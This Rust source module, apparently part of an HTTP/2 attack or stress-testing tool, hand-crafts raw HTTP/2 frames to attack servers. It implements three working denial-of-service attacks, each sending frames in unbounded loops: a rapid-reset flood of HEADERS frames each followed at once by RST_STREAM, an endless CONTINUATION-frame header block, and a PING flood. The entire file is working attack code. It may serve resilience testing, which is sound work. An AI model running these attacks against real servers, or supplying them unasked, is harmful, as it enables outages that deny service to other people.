//! Attacks on HTTP/2 itself, in frames made by hand: what no client's library lets one send.

use crate::attacks::Outcome;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Frames sent at once.
const AT_ONCE: u32 = 100;

#[derive(Clone, Copy)]
enum Kind {
    Headers = 1,
    Reset = 3,
    Settings = 4,
    Ping = 6,
    Continuation = 9,
}

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: Kind, flags: u8, stream: u32, content: &[u8]) -> Vec<u8> {
    let length = (content.len() as u32).to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend_from_slice(&[kind as u8, flags]);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(content);
    frame
}

/// The fields of a GET of `/v2`, none of them indexed or compressed.
fn fields() -> Vec<u8> {
    let fields = [
        (":method", "GET"),
        (":path", "/v2"),
        (":scheme", "http"),
        (":authority", "x"),
    ];
    fields.iter().flat_map(|it| field(it.0, it.1)).collect()
}

/// A field of fewer than 127 bytes each.
fn field(name: &str, value: &str) -> Vec<u8> {
    let mut field = vec![0];
    for text in [name, value] {
        field.push(text.len() as u8);
        field.extend_from_slice(text.as_bytes());
    }
    field
}

/// Sends what `next` gives until the other end has enough, and reads whatever comes.
async fn sent(stream: TcpStream, mut next: impl FnMut(u32) -> Vec<u8>) -> Outcome {
    let (mut from, mut to) = stream.into_split();
    to.write_all(PREFACE).await?;
    to.write_all(&frame(Kind::Settings, 0, 0, b"")).await?;
    let reading = async {
        let mut buffer = vec![0; 64 * 1024];
        while from.read(&mut buffer).await? > 0 {}
        Ok(())
    };
    let sending = async {
        for round in 0.. {
            to.write_all(&next(round)).await?;
        }
        Ok(())
    };
    tokio::select! {
        done = reading => done,
        done = sending => done,
    }
}

/// Asks, and takes it back at once.
pub async fn reset(stream: TcpStream) -> Outcome {
    let fields = fields();
    let cancel = 8_u32.to_be_bytes();
    sent(stream, |round| {
        let numbers = (0..AT_ONCE).map(|index| 2 * (round * AT_ONCE + index) + 1);
        let both = numbers.flat_map(|number| {
            let mut both = frame(Kind::Headers, END_STREAM | END_HEADERS, number, &fields);
            both.extend(frame(Kind::Reset, 0, number, &cancel));
            both
        });
        both.collect()
    })
    .await
}

/// A head without end.
pub async fn continued(stream: TcpStream) -> Outcome {
    let more = field("x", &"y".repeat(100)).repeat(100);
    sent(stream, |round| match round {
        0 => frame(Kind::Headers, 0, 1, &fields()),
        _ => frame(Kind::Continuation, 0, 1, &more),
    })
    .await
}

/// Nothing but pings.
pub async fn pings(stream: TcpStream) -> Outcome {
    let pings = frame(Kind::Ping, 0, 0, b"assaying").repeat(AT_ONCE as usize);
    sent(stream, |_| pings.clone()).await
}
